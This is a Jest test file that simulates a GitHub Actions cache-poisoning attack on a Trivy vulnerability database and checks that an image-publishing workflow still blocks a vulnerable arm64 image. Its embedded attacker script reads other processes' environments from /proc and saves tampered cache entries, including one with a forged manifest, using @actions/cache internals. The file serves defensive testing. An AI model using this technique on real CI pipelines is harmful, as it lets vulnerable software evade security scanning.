// Issue 18, attack 2 (the Trivy DB part), as a real workflow run: a job of the caller's own run saves actions-cache
// entries holding a Trivy DB without the advisory that blocks its image, under every key the image job could restore
// (the date key the suite once used, with its prefix restore; the exact digest key; a self-consistent key of a
// forged manifest), before the image job's scan restores. The image is vulnerable on linux/arm64 only. The image job
// must still find CVE-2099-1001 there, and nothing may be pushed, signed or tagged. docs/security.md has the threat
// model; packages/scanners/src/trivy-db.ts the defence.
import { mkdtempSync, readdirSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import {
  advisoriesWithout,
  offlineTrivyCache,
  repoRoot,
  SAMPLE_MUSL,
  startWorkflowEnvironment,
  type WorkflowEnvironment,
} from '@golden-image/testkit';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { caller, failureText, REPORT_JOB, RegistryView, results, run, sampleImageFiles } from './scenario.js';

let env: WorkflowEnvironment;
let planted: string;
const view = new RegistryView();
beforeAll(async () => {
  env = await startWorkflowEnvironment();
  // The attacker's DB: the project's advisories without the one that blocks the arm64 image, stamped current
  // (NextUpdate 2099, DownloadedAt set) as a DB Trivy itself downloaded would be.
  const cache = await offlineTrivyCache(mkdtempSync(join(tmpdir(), 'golden-image-planted-db-')), {
    advisories: advisoriesWithout([SAMPLE_MUSL.advisory]),
  });
  planted = join(cache, 'db');
  expect(readdirSync(planted).sort()).toEqual(['metadata.json', 'trivy.db']);
});
afterAll(async () => {
  await env?.stop();
});

const PINNED_CHECKOUT = 'actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683';

/**
 * The attacker's script, in the caller's repository. On GitHub every job's RUNNER_TEMP is the same path
 * (/home/runner/work/_temp), so `cache.saveCache([path], key)` from any job of the run lands where the image job
 * restores. act on one host gives each job a RUNNER_TEMP of its own, and @actions/cache finds an entry only under
 * the same paths (its version is a hash of them): so the script reads the image job's RUNNER_TEMP from its processes
 * (/proc, which jobs on one host can read) and uses @actions/cache's own tar and cache client to save its files
 * under that job's paths. What it saves, and the keys, are what a job on GitHub would save.
 */
const PLANT = String.raw`
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { cpSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join, relative } from 'node:path';

const lib = process.env.CACHE_LIB;
const { createTar } = await import(lib + 'internal/tar.js');
const client = await import(lib + 'internal/cacheHttpClient.js');
const utils = await import(lib + 'internal/cacheUtils.js');
const say = (line) => console.log('attacker: ' + line);

// The image job of this run: a process with this run's cache server and GITHUB_JOB=image.
function imageJob() {
  for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
    let vars;
    try {
      vars = Object.fromEntries(
        readFileSync('/proc/' + pid + '/environ', 'utf8').split('\0').filter(Boolean).map((kv) => {
          const at = kv.indexOf('=');
          return [kv.slice(0, at), kv.slice(at + 1)];
        }),
      );
    } catch {
      continue;
    }
    if (vars.ACTIONS_CACHE_URL === process.env.ACTIONS_CACHE_URL && vars.GITHUB_JOB === 'image' && vars.RUNNER_TEMP)
      return { temp: vars.RUNNER_TEMP, workspace: vars.GITHUB_WORKSPACE };
  }
  return undefined;
}

let target;
for (let i = 0; i < 12000 && !(target = imageJob()); i++) await new Promise((resolve) => setTimeout(resolve, 50));
if (!target) throw new Error('the image job never started (no process with GITHUB_JOB=image and this cache server)');
say('the image job runs with RUNNER_TEMP ' + target.temp);

const own = process.env.RUNNER_TEMP;
const workspace = process.env.GITHUB_WORKSPACE;
const sha256 = (bytes) => 'sha256:' + createHash('sha256').update(bytes).digest('hex');

// What each key holds, under the same path (relative to RUNNER_TEMP) the image job restores it to.
const entries = [];
// 1. The key the suite used until issue 18 (golden-image-trivy-db-v2-<day>, restored with the prefix
//    golden-image-trivy-db-v2-, and not updated while metadata.json says NextUpdate is ahead): the DB itself.
const day = new Date().toISOString().slice(0, 10);
const oldDir = join(own, 'old', 'golden-image-trivy', 'cache', 'db');
mkdirSync(oldDir, { recursive: true });
cpSync(process.env.PLANTED, oldDir, { recursive: true });
entries.push({ key: 'golden-image-trivy-db-v2-' + day, dir: oldDir, rel: 'golden-image-trivy/cache/db' });

// 2. The key the suite uses now, golden-image-trivy-db-<digest>: the attacker resolves the tag as the suite
//    does, and saves the real manifest with its own layer.
const layerDir = join(own, 'planted-layer');
mkdirSync(layerDir, { recursive: true });
execFileSync('tar', ['-czf', join(layerDir, 'layer.tar.gz'), '-C', process.env.PLANTED, 'trivy.db', 'metadata.json']);
const layer = readFileSync(join(layerDir, 'layer.tar.gz'));
const manifest = execFileSync('skopeo', ['inspect', '--raw', '--tls-verify=false', 'docker://' + process.env.DB_REPOSITORY]);
const digest = sha256(manifest);
const storeFiles = (dir, manifestBytes) => {
  rmSync(dir, { recursive: true, force: true });
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, 'manifest.json'), manifestBytes);
  writeFileSync(join(dir, 'layer.tar.gz'), layer);
  writeFileSync(join(dir, 'source.json'), JSON.stringify({ repository: process.env.DB_REPOSITORY.replace(/:[^/]*$/, '') }));
};
const exact = join(own, 'exact', 'golden-image-trivy', 'store', 'db');
storeFiles(exact, manifest);
entries.push({ key: 'golden-image-trivy-db-' + digest, dir: exact, rel: 'golden-image-trivy/store/db' });

// 3. A forged manifest naming the attacker's layer, under the key of its own digest: what a prefix restore of
//    golden-image-trivy-db-sha256: would find, self-consistent.
const forged = JSON.parse(manifest.toString());
forged.layers[0].digest = sha256(layer);
forged.layers[0].size = layer.length;
const forgedBytes = Buffer.from(JSON.stringify(forged));
const forgedDir = join(own, 'forged', 'golden-image-trivy', 'store', 'db');
storeFiles(forgedDir, forgedBytes);
entries.push({ key: 'golden-image-trivy-db-' + sha256(forgedBytes), dir: forgedDir, rel: 'golden-image-trivy/store/db' });

const compressionMethod = await utils.getCompressionMethod();
for (const entry of entries) {
  // The archive holds the files at the path, relative to the workspace, that the image job extracts them to.
  const theirs = join(target.temp, entry.rel);
  const wanted = relative(target.workspace, theirs);
  const stage = join(workspace, wanted);
  if (relative(workspace, stage) !== wanted) throw new Error('cannot stage ' + wanted);
  rmSync(stage, { recursive: true, force: true });
  mkdirSync(stage, { recursive: true });
  cpSync(entry.dir, stage, { recursive: true });
  const archiveFolder = await utils.createTempDirectory();
  await createTar(archiveFolder, [wanted], compressionMethod);
  const archive = join(archiveFolder, utils.getCacheFileName(compressionMethod));
  const size = utils.getArchiveFileSizeInBytes(archive);
  const reserved = await client.reserveCache(entry.key, [theirs], { compressionMethod, cacheSize: size });
  const cacheId = reserved?.result?.cacheId;
  if (!cacheId) throw new Error('could not reserve ' + entry.key + ': ' + JSON.stringify(reserved));
  await client.saveCache(cacheId, archive, '', undefined);
  rmSync(stage, { recursive: true, force: true });
  say('saved ' + entry.key + ' for ' + theirs);
}
`;

describe('2. caches cannot carry a Trivy DB into the gate', () => {
  test('a job of the same run plants a DB without the arm64 advisory under every key: the image job still blocks the image, nothing is pushed or signed', async () => {
    const cacheLib = `${pathToFileURL(join(repoRoot, 'node_modules', '@actions', 'cache', 'lib')).href}/`;
    const repo = caller(
      `
name: publish
on: [push]
jobs:
  publish:
    permissions: { contents: read, packages: write, id-token: write }
    uses: golden-image/golden-image/.github/workflows/docker-publish.yml@v1
    with:
      image: \${{ vars.REGISTRY }}/acme/cache-attack
      platforms: linux/amd64,linux/arm64
${REPORT_JOB('publish')}
  attacker:
    runs-on: ubuntu-24.04
    permissions: {}
    steps:
      - uses: ${PINNED_CHECKOUT}
      - name: Plant a Trivy DB in the actions cache
        env:
          CACHE_LIB: ${cacheLib}
          PLANTED: ${planted}
          DB_REPOSITORY: \${{ vars.GOLDEN_IMAGE_DB_REPOSITORY }}
        run: node attack/plant.mjs
`,
      { ...sampleImageFiles({ vulnerable: ['linux/arm64'] }), 'attack/plant.mjs': PLANT },
    );
    const result = await run(env, repo, 'push');
    const attacker = result.job('attacker');
    expect({ result: attacker.result, log: attacker.result === 'success' ? '' : failureText(result) }).toEqual({
      result: 'success',
      log: '',
    });
    const planting = attacker.log.join('\n');
    expect(planting).toMatch(/attacker: saved golden-image-trivy-db-v2-\d{4}-\d\d-\d\d for /);
    expect(planting).toMatch(/attacker: saved golden-image-trivy-db-sha256:[0-9a-f]{64} for .*store\/db/);
    expect(planting.match(/attacker: saved /g)).toHaveLength(3);

    const image = result.job(/\/merge, scan, push$/);
    const log = image.log.join('\n');
    expect({ result: image.result, why: image.result === 'failure' ? '' : failureText(result) }).toEqual({
      result: 'failure',
      why: '',
    });
    // The gate saw the advisory on arm64, with the DB the registry serves.
    expect(log).toMatch(/scan-layout: 1 finding\(s\) at HIGH,CRITICAL in .*\(linux\/arm64\)/);
    expect(log).toContain(SAMPLE_MUSL.advisory);
    // The planted entry under the exact key was restored, and refused for its bytes.
    // The planted entry under the exact key of the digest the repository gate carried was restored, and refused
    // for its bytes (in the gate and again in the image job); none reached Trivy.
    const gates = result.job(/repository gates/).log.join('\n');
    expect(`${gates}\n${log}`).toMatch(
      /the actions cache entry golden-image-trivy-db-sha256:[0-9a-f]{64} is not that DB/,
    );
    expect(log).not.toMatch(/not asking for an update/);
    expect(Object.keys(results(result)).filter((name) => /^(sign|promote) /.test(name))).toEqual([]);
    expect(view.tags(`${env.registry.host}/acme/cache-attack`)).toEqual([]);
    expect(readFileSync(join(planted, 'metadata.json'), 'utf8')).toContain('2099');
  });
});
